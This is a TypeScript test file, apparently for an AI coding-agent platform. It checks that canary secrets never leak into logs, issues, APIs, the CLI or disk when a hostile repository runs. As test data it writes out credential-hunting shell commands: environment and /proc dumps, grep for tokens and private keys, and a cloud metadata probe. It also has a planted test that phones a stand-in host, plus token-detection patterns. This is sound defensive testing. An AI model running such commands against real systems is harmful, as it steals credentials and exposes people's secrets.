import { execFile, execFileSync } from "node:child_process"
import { readFileSync } from "node:fs"
import { join, relative } from "node:path"
import { afterAll, assert, beforeAll, describe, it } from "vitest"
import { startEchoProxy, type EchoProxy } from "./echo-proxy.ts"
import { filesBelow } from "./files-below.ts"
import { fixSum, type Journey, library, root, startJourney } from "./journey.ts"

/** Of a shape that nobody knows: only who holds it can mask it. */
const MODEL_KEY = "canary.model.key.4f1d8a2b7c"

/** What hostile code does to find a secret, in the sandbox. Put together inside, so that a search does not find its own words. */
const hunt = [
  "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'; git config --list --show-origin; cat .git/config",
  'g=gh; grep -rIaohE "${g}s_[A-Za-z0-9._-]{8,}|loom1[.][A-Za-z0-9_-]{8,}|PRIVATE KE[Y]|canary[.]model" $(ls -d /workspace /home /root /tmp /run /etc /dev/shm /var/tmp /opt/loom/*.json 2>/dev/null) 2>/dev/null | head -50; true',
  "curl -sv -m 5 http://git.loom.internal/acme/none.git/info/refs?service=git-upload-pack 2>&1; curl -sv -m 5 http://169.254.169.254/ 2>&1; true",
  "GIT_TRACE_CURL=1 GIT_TRACE=1 git ls-remote http://git.loom.internal/acme/hostile.git 2>&1; git ls-remote origin 2>&1; true",
]

/** Code under test that looks as well: its output goes to logs, reports and, by failing at the base, to the issue. */
const huntingTest = [
  'import { execSync } from "node:child_process"',
  'import { test } from "node:test"',
  `test("hunts", () => { console.log(execSync(${JSON.stringify(hunt.slice(0, 2).join("\n"))}, { shell: "/bin/bash", stdio: ["ignore", "pipe", "ignore"], maxBuffer: 1e8 }).toString()); console.log(process.env) })`,
  // And a test that phones home, and does not mind that nobody answers.
  'test("phones", () => fetch("https://phone.acme-telemetry.dev/").catch(() => undefined))',
  "",
].join("\n")

describe("no secret comes out, whatever goes wrong", () => {
  let journey: Journey
  let gitHub: EchoProxy
  let model: EchoProxy
  let gateways: EchoProxy
  const canaries = new Map<string, string>()
  const taskIds: Array<string> = []
  /** Everything that was shown, by where. */
  const shown = new Map<string, string>()

  beforeAll(async () => {
    ;[gitHub, model, gateways] = await Promise.all([startEchoProxy(), startEchoProxy(), startEchoProxy()])
    journey = await startJourney("secrets", {
      GITHUB_API_URL: gitHub.url,
      GITHUB_GIT_URL: gitHub.url,
      ANTHROPIC_BASE_URL: model.url,
      ANTHROPIC_API_KEY: MODEL_KEY,
      LOOM_GATEWAY_URL: gateways.url,
      LOOM_BACKOFF_MS: "300",
    })
    gitHub.target = journey.world.github.url
    model.target = journey.world.recorded?.url ?? ""
    gateways.target = journey.world.url
    const settings = readFileSync(join(journey.world.directory, "worker.env"), "utf8")
    for (const [, name = "", value = ""] of settings.matchAll(/^(\w*(?:KEY|SECRET|TOKEN)\w*)=['"`]([\s\S]*?)['"`]$/gm))
      canaries.set(name, value)
  }, 300_000)
  afterAll(async () => {
    await journey?.close()
    await Promise.all([gitHub, model, gateways].map((proxy) => proxy?.close()))
  })

  const follow = async (name: string, change: Parameters<Journey["run"]>[1], files = library()) => {
    const { detail, number } = await journey.run(name, change, files)
    taskIds.push(detail.id)
    const rest = async (path: string) => JSON.stringify(await journey.rest(path))
    shown.set(
      `${name}: issue and comments`,
      (await rest(`/repos/acme/${name}/issues/${number}`)) + (await rest(`/repos/acme/${name}/issues/${number}/comments`)),
    )
    if (detail.pullRequest !== null) {
      shown.set(`${name}: pull request`, await rest(`/repos/acme/${name}/pulls/${detail.pullRequest.number}`))
      shown.set(`${name}: check runs`, await rest(`/repos/acme/${name}/commits/${detail.pullRequest.branch}/check-runs`))
    }
    return detail
  }

  const logOf = async (taskId: string): Promise<ReadonlyArray<string>> => {
    const messages: Array<string> = []
    for (let last = 0; ;) {
      const { items } = await journey.world.api.logs(taskId, last)
      const fresh = items.filter(({ seq }) => seq > last)
      if (fresh.length === 0) return messages
      messages.push(...fresh.map(({ message }) => message))
      last = Math.max(...fresh.map(({ seq }) => seq))
    }
  }

  it("a hostile repository and a hostile change that hunt for secrets: the run ends as it should", async () => {
    const files = library({ files: { "test/hunt.test.js": huntingTest } })
    const detail = await follow("hostile", { ...fixSum, commands: hunt }, files)
    assert.strictEqual(detail.status, "completed", detail.reason ?? "")
    // What the tests wanted in vain is told where people look: the task's log and the issue.
    const wanted =
      /^blocked host: phone\.acme-telemetry\.dev .*`network: \{ tests: \[phone\.acme-telemetry\.dev\] \}` in \.github\/loom\.yml/
    assert.isTrue((await logOf(detail.id)).some((message) => wanted.test(message)))
    assert.include(shown.get("hostile: issue and comments"), "blocked hosts: phone.acme-telemetry.dev")
  })

  it("a set-up that wants a host that is not listed: log, comment and remedy name it and the setting", async () => {
    const files = library({ files: { ".github/loom.yml": "setup:\n  - curl -sSf https://cdn.acme-tools.dev/tool.tgz -o /tmp/tool\n" } })
    const detail = await follow("blocked", fixSum, files)
    assert.strictEqual(detail.outcome?.failure?.code, "setup_failed")
    const remedy = detail.outcome?.failure?.remedy ?? ""
    assert.match(remedy, /blocked host: cdn\.acme-tools\.dev \(host is not listed\); allow with the operator's LOOM_ALLOWED_HOSTS/)
    assert.include(remedy, "`network: { setup: [cdn.acme-tools.dev] }` in .github/loom.yml")
    assert.include(shown.get("blocked: issue and comments"), "blocked host: cdn.acme-tools.dev")
    assert.isTrue((await logOf(detail.id)).some((message) => message.startsWith("blocked host: cdn.acme-tools.dev")))
  })

  it("a model that answers with an error that echoes the request and its key", async () => {
    for (const status of [401, 400]) {
      model.echoes.push({ path: /messages/, status, times: 1 })
      const detail = await follow(`model-error-${status}`, fixSum)
      assert.strictEqual(detail.status, "failed")
      model.echoes.length = 0
    }
    assert.isAtLeast(model.echoed(), 2)
  })

  it("GitHub that answers 401 with the token in its body", async () => {
    const { number, taskId } = await journey.label("unauthorized", { ...fixSum, commands: ["echo begun", "sleep 5"] })
    await journey.untilLog(taskId, /echo begun/)
    gitHub.echoes.push({ path: /\/(pulls|git-receive-pack|info\/refs|check-runs)/, status: 401, times: 2 })
    const detail = await journey.world.followTask(taskId)
    taskIds.push(detail.id)
    assert.isAbove(gitHub.echoed(), 0)
    gitHub.echoes.length = 0
    shown.set("unauthorized: comments", JSON.stringify(await journey.rest(`/repos/acme/unauthorized/issues/${number}/comments`)))
  })

  it("a gateway that answers with an error that holds the capability", async () => {
    gateways.echoes.push({ path: /upload-pack/, status: 403, times: 1 })
    await follow("gateway-error", fixSum)
    assert.isAbove(gateways.echoed(), 0)
    gateways.echoes.length = 0
  })

  it("the person at the terminal sees none either", async () => {
    const env = { PATH: process.env["PATH"], HOME: process.env["HOME"], ANTHROPIC_API_KEY: MODEL_KEY }
    for (const args of [["list"], ...taskIds.map((id) => ["show", id])]) {
      const text = await new Promise<string>((done) => {
        execFile(
          process.execPath,
          ["apps/cli/src/main.ts", ...args],
          { cwd: root, env: { ...env, LOOM_URL: journey.world.url, LOOM_API_TOKEN: journey.world.apiToken } },
          (_, out, err) => done(out + err),
        )
      })
      shown.set(`terminal: loom ${args.join(" ")}`, text)
    }
    assert.include(shown.get("terminal: loom list"), "acme/hostile")
  })

  it("nothing of them is anywhere: REST, WebSocket, GitHub, databases, artifacts, logs, the sandbox host's disk", async () => {
    const { world } = journey
    const api = async (path: string) => {
      const response = await fetch(`${world.url}${path}`, { headers: { authorization: `Bearer ${world.apiToken}` } })
      shown.set(`GET ${path}`, JSON.stringify([...response.headers]) + (await response.text()))
    }
    for (const id of taskIds) for (const part of ["", "/events?limit=1000", "/proof"]) await api(`/api/v1/tasks/${id}${part}`)
    for (const id of taskIds) shown.set(`log of ${id}`, (await logOf(id)).join("\n"))
    for (const path of [
      "/api/v1/tasks",
      "/api/v1/status",
      "/healthz",
      "/api/v1/nothing",
      "/gateways/git/acme/hostile.git/info/refs?service=git-upload-pack",
      "/gateways/model/anthropic/v1/messages",
      "/",
    ])
      await api(path)
    // What the world itself is told, and what stands in for GitHub, hold secrets by their nature; everything else may not.
    for (const { content, path } of filesBelow(world.directory, 50_000_000)) {
      const name = relative(world.directory, path)
      if (name !== "worker.env" && name !== "github/state.json") shown.set(name, content.toString("latin1"))
    }
    for (const repository of ["hostile", "model-error-400", "unauthorized", "gateway-error"])
      shown.set(
        `${repository}: git`,
        execFileSync("git", ["-C", world.github.repositoryPath("acme", repository), "log", "-p", "--all", "--format=fuller"], {
          encoding: "latin1",
          maxBuffer: 1e9,
        }),
      )

    const secrets = new Map(canaries)
    for (const [where, proxy] of Object.entries({ github: gitHub, model, gateways })) {
      assert.isAbove(proxy.credentials.size, 0, `${where} was shown no credential`)
      let n = 0
      for (const credential of proxy.credentials) if (credential.length >= 12) secrets.set(`${where} ${++n}`, credential)
    }
    for (const name of [
      "GITHUB_APP_PRIVATE_KEY",
      "GITHUB_WEBHOOK_SECRET",
      "LOOM_CAPABILITY_SECRET",
      "LOOM_PROOF_KEY",
      "LOOM_API_TOKEN",
      "LOOM_SANDBOX_TOKEN",
      "ANTHROPIC_API_KEY",
    ])
      assert.isAtLeast(secrets.get(name)?.length ?? 0, 12, `${name} is no canary`)
    const found: Array<string> = []
    for (const [secretName, secret] of secrets) {
      // A key is looked for line by line, and a token also by its last part alone.
      const needles = secret.includes("\n") ? secret.split("\n").filter((line) => line.length > 40) : [secret, encodeURIComponent(secret)]
      for (const [place, text] of shown)
        for (const needle of new Set(needles)) if (text.includes(needle)) found.push(`${secretName} in ${place}`)
    }
    for (const [place, text] of shown) {
      const shape =
        /gh[opsur]_[A-Za-z0-9._-]{16,}|loom1\.[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}|-----BEGIN [A-Z ]*PRIVATE KEY-----\s+[A-Za-z0-9+/]{20}/.exec(
          text,
        )
      if (shape !== null) found.push(`${shape[0].slice(0, 12)}… in ${place}`)
    }
    assert.deepStrictEqual([...new Set(found)], [])
    assert.isAbove(shown.size, 40)
  })
})
